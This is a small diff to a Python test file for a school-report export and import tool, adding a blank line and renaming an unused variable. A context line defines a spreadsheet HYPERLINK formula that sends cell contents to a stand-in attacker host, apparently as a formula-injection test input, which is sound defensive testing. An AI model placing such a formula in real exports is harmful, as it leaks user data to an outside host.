@@ -14,6 +14,7 @@ EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"가나초")'
 @pytest.fixture(scope="module")
 def school_workbook(_template_demo_ws, tmp_path_factory):
     import shutil
+
     from schoolvault.reports import export_workbook
     d = tmp_path_factory.mktemp("submission")
     ws_path = d / "school.sqlite"
@@ -62,7 +63,7 @@ IMPOSSIBLE = ("SELECT COUNT(*) FROM district_rows WHERE n < 0 OR mean < 0 OR mea
 def test_garbage_numbers_in_a_submission_do_not_crash_and_check_flags_them(school_workbook, fresh_ws_path,
                                                                            tmp_path, capsys):
     f = tampered(school_workbook, tmp_path / "garbage.xlsx", cells=GARBAGE)
-    rc, out, err = district_import(fresh_ws_path, f, capsys)
+    rc, _out, err = district_import(fresh_ws_path, f, capsys)
     assert rc in (0, 1)
     assert "Traceback" not in err
     if rc == 1:
